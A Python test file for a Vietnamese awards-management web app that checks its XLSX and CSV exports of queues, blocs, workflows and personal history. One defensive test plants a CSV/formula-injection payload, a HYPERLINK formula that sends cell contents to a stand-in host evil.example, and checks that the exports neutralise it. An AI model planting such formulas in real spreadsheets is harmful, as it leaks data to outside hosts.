"""XLSX exports of the work queue, the blocs, the workflows and a person's history."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from khenthuong.runtime import Runtime
from khenthuong.services.history_import import COLUMNS, HEADERS_VI, import_history
from khenthuong.services.org import add_person
from khenthuong.storage.db import write_tx
from khenthuong.web.xlsx import XLSX_TYPE
from tests.web.helpers import Headers, attach_dossier, person_id, propose, step
from tests.web.sheets import table, total_row, xlsx_sheet

Browser = Callable[[str], tuple[TestClient, str]]


def sheet_rows(response: Any) -> list[tuple[Any, ...]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX_TYPE
    assert "attachment" in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return list(sheet.iter_rows(values_only=True))


def test_queue_export_lists_the_callers_work(
    client: TestClient, token: Headers, browser: Browser, web_rt: Runtime
) -> None:
    officer = token("cb.qd")
    ids = []
    for name in ("Nguyễn Văn An", "Trần Thị Bích"):
        nid = propose(client, officer, person_id(client, officer, name))["id"]
        attach_dossier(client, officer, nid)
        step(client, officer, nid, "submit")
        ids.append(nid)
    head, _ = browser("tt.qd")
    assert 'href="/queue?format=xlsx"' in head.get("/queue").text
    sheet = xlsx_sheet(head.get("/queue", params={"format": "xlsx"}))
    header, data = table(sheet)
    assert header == ["Số hồ sơ", "Cá nhân, tập thể được đề nghị", "Hình thức khen thưởng",
                      "Trạng thái", "Đơn vị đề nghị", "Mã đơn vị", "Năm", "Hạn xử lý",
                      "Quá hạn"]  # fmt: skip
    queue = [i["id"] for i in client.get("/api/queue", headers=token("tt.qd")).json()["items"]]
    assert [r[0].value for r in data] == queue and sorted(queue) == sorted(ids)
    assert {r[1].value for r in data} == {"Nguyễn Văn An", "Trần Thị Bích"}
    assert {(r[4].value, r[5].value) for r in data} == {("Cục Cơ yếu Quân đội", "CCYQD")}
    assert all(r[0].data_type == "n" and r[7].is_date for r in data)
    assert total_row(sheet)[1].value == 2
    other, _ = browser("tt.dcq")  # another unit's head: a header, no rows, a count of 0
    empty = xlsx_sheet(other.get("/queue", params={"format": "xlsx"}))
    assert table(empty) == (header, []) and total_row(empty)[1].value == 0


def test_blocs_and_workflows_export(browser: Browser, web_rt: Runtime) -> None:
    c, _ = browser("cb.qd")
    assert 'href="/blocs?format=xlsx"' in c.get("/blocs").text
    sheet = xlsx_sheet(c.get("/blocs", params={"format": "xlsx"}))
    header, data = table(sheet)
    assert header == ["Khối, cụm", "Mã", "Khối trưởng", "Khối phó", "Thành viên", "Số thành viên"]
    kcy4 = next(r for r in data if r[1].value == "KCY4")
    assert kcy4[0].value == "Khối thi đua 4 Hệ Cơ yếu"
    assert set(str(kcy4[4].value).split(", ")) == {
        "Cục Cơ yếu Quân đội", "Cục Cơ yếu Công an", "Cục Cơ yếu Ngoại giao",
        "Cục Cơ yếu Đảng – Chính quyền",
    }  # fmt: skip
    assert kcy4[2].value in (None, "Cục Cơ yếu Quân đội", "Cục Cơ yếu Đảng – Chính quyền")
    assert kcy4[5].value == 4 and kcy4[5].data_type == "n"
    assert total_row(sheet)[5].value == sum(r[5].value for r in data)
    assert 'href="/workflows?format=xlsx"' in c.get("/workflows").text
    header, data = table(xlsx_sheet(c.get("/workflows", params={"format": "xlsx"})))
    assert header == ["Tên", "Mã", "Phiên bản", "Đối tượng", "Căn cứ pháp lý"]
    latest = {w.definition.name: w.definition for w in web_rt.registry.latest()}
    assert {r[1].value for r in data} == set(latest) and len(data) == len(latest)
    for title, name, version, _, basis in data:
        d = latest[str(name.value)]
        assert (version.value, title.value, basis.value) == (
            d.version, d.title.vi, "; ".join(d.legal_basis)
        )  # fmt: skip
        assert version.data_type == "n"
    c.get("/lang/en")
    header, data = table(xlsx_sheet(c.get("/workflows", params={"format": "xlsx"})))
    assert header[:2] == ["Title", "Code"]
    assert {r[0].value for r in data} == {d.title.en for d in latest.values()}


def test_person_history_export_reimports_as_the_same_history(
    browser: Browser, web_rt: Runtime, tmp_path: Path
) -> None:
    c, csrf = browser("cb.qd")
    page = c.get("/new")
    marker = ">Trần Thị Bích"
    pid = page.text[: page.text.index(marker)].rsplit('value="', 1)[1].split('"', 1)[0]
    year = date.today().year
    entries = [
        {"record": "rating", "year": str(year - 1), "code": "htxs"},
        {"record": "award", "year": str(year - 1), "code": "CSTDCS",
         "decision_number": f"{year - 1}/QĐ-CCYQD", "decision_date": f"{year - 1}-12-20"},
        {"record": "initiative", "year": str(year - 1), "code": "grassroots",
         "title": "Cải tiến quy trình mật mã"},
        {"record": "blocker", "code": "discipline", "decision_date": f"{year}-01-05",
         "ends_on": f"{year}-02-05", "title": "Đã chấp hành", "level": "canh_cao"},
    ]  # fmt: skip
    for entry in entries:
        r = c.post(f"/persons/{pid}/history", data=entry | {"csrf_token": csrf},
                   follow_redirects=False)  # fmt: skip
        assert r.status_code == 303, r.text
    page = c.get(f"/persons/{pid}").text
    assert f'href="/persons/{pid}?format=xlsx"' in page
    assert (
        "Kỷ luật</span> (cảnh cáo)" in page and '<option value="canh_cao">cảnh cáo</option>' in page
    )
    response = c.get(f"/persons/{pid}", params={"format": "xlsx"})
    rows = sheet_rows(response)
    assert rows[0] == tuple(HEADERS_VI[c] for c in COLUMNS)
    assert rows[0][:3] == ("Loại mục", "Họ và tên", "Mã đơn vị")
    records = {r[0]: dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]}
    assert set(records) == {"award", "rating", "initiative", "blocker"} and len(rows) == 5
    assert all(r["person"] == "Trần Thị Bích" and r["unit"] == "CCYQD" for r in records.values())
    assert records["award"]["code"] == "CSTDCS"
    assert isinstance(records["award"]["decision_date"], datetime)  # a date cell, not text
    assert records["award"]["decision_number"] == f"{year - 1}/QĐ-CCYQD"
    assert records["rating"]["code"] == "htxs" and records["initiative"]["code"] == "grassroots"
    assert records["blocker"]["code"] == "discipline" and records["blocker"]["level"] == "canh_cao"
    # The sheet is in the import's format: importing it finds every row already recorded.
    path = tmp_path / "lich-su.xlsx"
    path.write_bytes(response.content)
    with write_tx(web_rt.engine) as conn:
        report = import_history(conn, path, skip_bad=True)
    assert report.rows == 4 and report.imported == 0
    assert len(report.errors) == 4, report.errors
    assert all(
        "đã có trong lịch sử" in message or "không ghi đè" in message
        for _, message in report.errors
    ), report.errors
    # Outside the officer's units the export is refused like the page.
    other, _ = browser("cb.dcq")
    assert other.get(f"/persons/{pid}", params={"format": "xlsx"}).status_code == 403
    auditor, _ = browser("kiemtra")
    assert len(sheet_rows(auditor.get(f"/persons/{pid}", params={"format": "xlsx"}))) == 5


PLANTED = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_exports_never_write_a_live_formula(
    client: TestClient, token: Headers, browser: Browser, web_rt: Runtime
) -> None:
    """A nominee name or a comment that starts like a formula stays text in every export
    (OWASP CSV injection): a string cell with a quote prefix in XLSX, an apostrophe in CSV."""
    with write_tx(web_rt.engine) as conn:
        add_person(conn, PLANTED, "CCYQD")
    officer = token("cb.qd")
    nid = propose(client, officer, person_id(client, officer, "HYPERLINK"))["id"]
    attach_dossier(client, officer, nid)
    step(client, officer, nid, "submit")
    head, _ = browser("tt.qd")
    response = head.get("/queue", params={"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == nid]
    assert len(cells) == 1
    assert cells[0].value == PLANTED and cells[0].data_type == "s" and cells[0].quotePrefix
    # The workbook's XML holds the name as text, with no <f> (formula) element anywhere.
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml
    # The audit trail as CSV: the planted name is in the create event's payload and a comment.
    client.post(
        f"/api/nominations/{nid}/advance",
        json={"trigger": "return", "payload": {"reason": "-2+3 thiếu hồ sơ"}},
        headers=token("tt.qd"),
    )
    text = client.get(
        "/api/audit/events",
        params={"nomination_id": nid, "format": "csv"},
        headers=token("cb.qd"),
    ).text
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert body, text
    for row in body:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    payload = json.loads(body[0][header.index("payload")])
    assert payload["nominee"] == PLANTED  # JSON, not a Python dict's repr
